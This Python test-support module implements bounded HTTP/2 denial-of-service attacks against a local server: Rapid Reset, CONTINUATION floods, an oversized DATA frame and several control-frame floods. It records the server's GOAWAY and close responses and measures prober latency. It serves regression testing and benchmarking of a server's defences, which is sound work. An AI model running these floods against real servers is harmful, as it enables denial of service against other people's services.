"""The HTTP/2 attacks of 2023-2024 as bounded functions, from the attacker's side: used by tests/faults and benchmarks/h2_attacks.py alike.

Each attack takes the port of a TLS listener with ALPN h2 on 127.0.0.1,
is bounded in bytes, frames, connections and seconds, and returns what
the server did (GOAWAY codes, closes, how long it took).  PHP's side
effects are counted by the site's ``once.php``, which appends its ``tag``
to ``runs.log`` in the document root (:func:`php_runs`).  A
:class:`Prober` is the fresh client beside the attack: sequential GETs on
a connection of its own, each one's latency kept.
"""

from __future__ import annotations

import statistics
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable, Optional

from tests.support.h2raw import (
    CANCEL,
    RawH2,
    continuation,
    data,
    headers,
    pad_field,
    ping,
    priority,
    raw_frame,
    rst_stream,
    settings,
    window_update,
)

__all__ = [
    "CONTROL_FLOODS",
    "Flood",
    "Prober",
    "continuation_flood",
    "control_flood",
    "oversized_data",
    "php_runs",
    "rapid_reset",
    "settle_php",
]

#: The most any one flooding connection sends, and for how long.
FLOOD_BYTES = 64 * 1024 * 1024
FLOOD_SECONDS = 5.0


def php_runs(root: Path, prefix: str) -> int:
    """How many times once.php ran with a tag starting with *prefix*."""
    log = root / "runs.log"
    if not log.exists():
        return 0
    return sum(1 for tag in log.read_text().split() if tag.startswith(prefix))


def settle_php(port: int, pool_size: int, within: float = 20.0) -> None:
    """Return once *pool_size* once.php requests sent now have all been answered.

    The pool hands its connections out first come, first served: once
    these have run, every request dispatched before them has started in
    PHP (and once.php appends its tag first thing), so counting is safe.
    """
    client = RawH2(port, timeout=within)
    try:
        ids = [2 * i + 1 for i in range(pool_size)]
        for stream_id in ids:
            client.request(stream_id, f"/once.php?tag=settle{stream_id}&ms=100")
        client.read_until(lambda c: all(c.stream(s).done for s in ids), within)
        statuses = [client.stream(s).status for s in ids]
        assert statuses == [200] * pool_size, statuses
    finally:
        client.close()


@dataclass
class Flood:
    """What one flooding connection saw: the GOAWAY code, whether and when the server closed, what was sent."""

    goaway: Optional[int]
    closed: bool
    bytes_sent: int
    frames_sent: int
    seconds: float
    #: Seconds from the GOAWAY to the TCP close (None if either never came).
    close_after_goaway: Optional[float] = None


def _flood_result(client: RawH2, started: float, frames: int) -> Flood:
    # A PING's ACK comes after the server has handled every frame before it
    # (RFC 9113 6.7): then its verdict on the flood is known.  After a
    # GOAWAY (or once it stopped reading) the server must close: 3 s for that.
    pings = client.pings
    if client.send(ping(b"flooddne")):
        client.read_until(lambda c: c.pings > pings or c.goaway is not None, 3.0)
    if client.goaway is not None or client.send_failed:
        client.read_until(lambda c: c.closed, 3.0)
    gap = None
    if client.goaway_at is not None and client.closed_at is not None:
        gap = max(0.0, client.closed_at - client.goaway_at)
    result = Flood(client.goaway, client.closed, client.bytes_sent, frames, time.monotonic() - started, gap)
    client.close()
    return result


def _flood(client: RawH2, first: bytes, chunk: bytes, frames_per_chunk: int, *, max_bytes: int, within: float) -> Flood:
    """Send *first*, then *chunk* again and again until the server closes, a send fails, or a bound is reached.

    What the server sends is read before each chunk, and a chunk goes out
    only when the socket has room: a server that stops reading then sends
    GOAWAY and aborts is seen doing so, where a blocked send would lose the
    GOAWAY to the abort's reset.
    """
    started = time.monotonic()
    frames = 0
    client.send(first)
    while client.bytes_sent < max_bytes and time.monotonic() - started < within and not client.closed:
        readable, writable = client.wait_io(0.1)
        if readable:
            client.read_once(0.01)
        elif writable:
            if not client.send(chunk):
                break
            frames += frames_per_chunk
    return _flood_result(client, started, frames)


def rapid_reset(port: int, *, connections: int, streams: int, tag: str, within: float = 10.0) -> list[Flood]:
    """*connections* connections at once, each opening *streams* PHP streams, every HEADERS(END_STREAM) followed by its RST_STREAM(CANCEL) in the same write."""

    def one(n: int) -> Flood:
        client = RawH2(port, timeout=within)
        started = time.monotonic()
        sent = 0
        for i in range(streams):
            stream_id = 2 * i + 1
            block = client.block(f"/once.php?tag={tag}{n}x{i}")
            if not client.send(headers(stream_id, block) + rst_stream(stream_id, CANCEL)):
                break
            sent += 1
            if client.readable():
                client.read_once(0.01)
        return _flood_result(client, started, sent)

    with ThreadPoolExecutor(max_workers=min(connections, 32)) as pool:
        return list(pool.map(one, range(connections)))


def continuation_flood(port: int, *, empty: bool = False, max_bytes: int = FLOOD_BYTES, within: float = FLOOD_SECONDS) -> Flood:
    """HEADERS without END_HEADERS, then CONTINUATION frames (16 KiB of header block each, or empty ones) until the server closes or a bound is reached."""
    client = RawH2(port, timeout=3.0)
    client.handshake()
    first = headers(1, client.block("/once.php?tag=cont"), end_stream=True, end_headers=False)
    if empty:
        chunk = continuation(1, b"") * 1024
        per_chunk = 1024
    else:
        chunk = continuation(1, pad_field(16000))
        per_chunk = 1
    return _flood(client, first, chunk, per_chunk, max_bytes=max_bytes, within=within)


def oversized_data(port: int, *, announced: int = 2**24 - 1, within: float = FLOOD_SECONDS) -> Flood:
    """A POST's HEADERS, then a DATA frame header announcing *announced* bytes (the most a frame can: 16 MiB - 1) and its payload streamed behind it, until the server closes or all is sent."""
    client = RawH2(port, timeout=3.0)
    first = headers(1, client.block("/once.php?tag=oversized", "POST"), end_stream=False)
    first += raw_frame(0x0, 0x0, 1, b"", length=announced)
    return _flood(client, first, b"a" * 16384, 0, max_bytes=announced + len(first), within=within)


def _on_a_closed_stream(client: RawH2) -> bytes:
    """Request /static/hello.txt on stream 1 and wait for its end: the RST_STREAM flood then targets a closed stream."""
    client.request(1, "/static/hello.txt")
    client.response(1, 5.0)
    return b""


#: The control-frame floods: each a name, what opens the flood, and 1024 frames of it.
CONTROL_FLOODS: dict[str, Callable[[RawH2], tuple[bytes, bytes]]] = {
    "settings": lambda c: (b"", settings({0x4: 65535}) * 1024),
    "ping": lambda c: (b"", ping() * 1024),
    "window_update": lambda c: (b"", window_update(0, 1) * 1024),
    "priority": lambda c: (b"", b"".join(priority(2 * i + 1) for i in range(1024))),
    "empty_data": lambda c: (headers(1, c.block("/once.php?tag=emptydata", "POST"), end_stream=False), data(1) * 1024),
    "rst_stream": lambda c: (_on_a_closed_stream(c), rst_stream(1) * 1024),
}


def control_flood(port: int, kind: str, *, within: float = FLOOD_SECONDS) -> Flood:
    """One connection flooding *kind* frames (CONTROL_FLOODS) until the server closes it or *within* seconds passed."""
    client = RawH2(port, timeout=3.0)
    first, chunk = CONTROL_FLOODS[kind](client)
    return _flood(client, first, chunk, 1024, max_bytes=FLOOD_BYTES, within=within)


@dataclass
class Prober:
    """A fresh client beside an attack: GETs of *path*, one after another on a connection of its own, each one's latency kept."""

    port: int
    path: str = "/static/hello.txt"
    latencies: list[float] = field(default_factory=list)
    failures: int = 0

    def run(self, count: int, within: float = 30.0, stop: Optional[Any] = None, pace: float = 0.0) -> "Prober":
        """*count* requests (fewer if *within* seconds pass or *stop*, a threading or multiprocessing Event, is set), one each *pace* seconds at most; a failed one opens a new connection.

        The pace is a load shape for the benchmark (a fresh client's few
        requests a second costing both servers alike), never a wait for an event.
        """
        deadline = time.monotonic() + within
        client: Optional[RawH2] = None
        stream_id = 1
        for _ in range(count):
            if time.monotonic() > deadline or stop is not None and stop.is_set():
                break
            if client is None or client.closed or stream_id > 1999:
                if client is not None:
                    client.close()
                client = RawH2(self.port, timeout=10.0)
                stream_id = 1
            sent = time.monotonic()
            client.request(stream_id, self.path)
            answer = client.response(stream_id, 10.0)
            if answer.ended and answer.status == 200:
                self.latencies.append(time.monotonic() - sent)
            else:
                self.failures += 1
                client.close()
            stream_id += 2
            if pace:
                time.sleep(max(0.0, pace - (time.monotonic() - sent)))
        if client is not None:
            client.close()
        return self

    def quantile(self, q: float) -> float:
        """The *q* quantile of the latencies, in seconds (inclusive method, as a p99 over few samples should be)."""
        if len(self.latencies) < 2:
            return self.latencies[0] if self.latencies else float("inf")
        return statistics.quantiles(self.latencies, n=100, method="inclusive")[round(q * 100) - 1]
